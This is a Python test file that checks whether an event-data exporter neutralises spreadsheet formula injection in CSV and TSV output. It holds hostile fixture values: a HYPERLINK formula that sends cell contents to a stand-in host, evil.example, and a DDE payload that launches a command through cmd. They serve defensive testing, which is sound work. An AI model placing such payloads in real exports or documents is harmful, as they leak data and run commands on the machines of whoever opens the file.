"""Exports as spreadsheets open them: text cells never run as formulas (#19)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from eventwire.cli import cli
from eventwire.store import Store
from eventwire.store.export import safe_cell, write_export

from .test_store import build_doc

TEXT = "Ruritania's army shelled Szohod, the ministry said."
TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
OUTLET = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture()
def hostile(tmp_path: Path) -> Path:
    db = tmp_path / "hostile.db"
    doc = build_doc(
        "+a1", "2024-03-02", TEXT, title=TITLE,
        actors=[("Ruritania", "Ruritania's army")],
        places=[("Szohod", "BOR", -46.1, -19.2)],
        events=[{"type": "ASSAULT", "source": ["Ruritania"], "target": [],
                 "evidence": "Ruritania's army shelled Szohod", "intensity": -9.0, "quad": 4,
                 "location": "P1"}],
    )  # fmt: skip
    doc.article.outlet = OUTLET
    doc.article.url = "-2+3"
    Store(f"sqlite:///{db}").put(doc)
    return db


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"),
        ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Reuters", "Reuters"), ("", ""),
        ("a=b", "a=b"), (-9.0, -9.0), (4, 4), (None, None),
    ],
)  # fmt: skip
def test_safe_cell(value: object, expected: object) -> None:
    assert safe_cell(value) == expected


@pytest.mark.parametrize(("fmt", "delimiter"), [("csv", ","), ("polecat", "\t")])
def test_formula_cells_are_neutralised(hostile: Path, fmt: str, delimiter: str) -> None:
    store = Store(f"sqlite:///{hostile}")
    out = io.StringIO()
    assert write_export(store, out, fmt=fmt) == 1
    [row] = list(csv.DictReader(io.StringIO(out.getvalue()), delimiter=delimiter))
    assert row["Source"] == "'" + OUTLET
    assert row["Event ID"] == "'+a1:V1"
    assert row["Latitude"] == "-46.1"  # a number is no formula: left as it is
    assert all(not v.startswith(("=", "+", "@")) for v in row.values())
    if fmt == "csv":
        assert row["Article Title"] == "'" + TITLE and row["URL"] == "'-2+3"
    raw = io.StringIO()
    write_export(store, raw, fmt=fmt, raw=True)
    [row] = list(csv.DictReader(io.StringIO(raw.getvalue()), delimiter=delimiter))
    assert (row["Source"], row["Event ID"]) == (OUTLET, "+a1:V1")


def test_cli_export_neutralises_unless_raw(hostile: Path) -> None:
    runner = CliRunner()
    safe = runner.invoke(cli, ["export", "--db", str(hostile)])
    assert safe.exit_code == 0, safe.output
    assert "'" + TITLE.replace('"', '""') in safe.stdout
    raw = runner.invoke(cli, ["export", "--db", str(hostile), "--raw"])
    assert '"' + TITLE.replace('"', '""') + '"' in raw.stdout
    assert "'=" not in raw.stdout
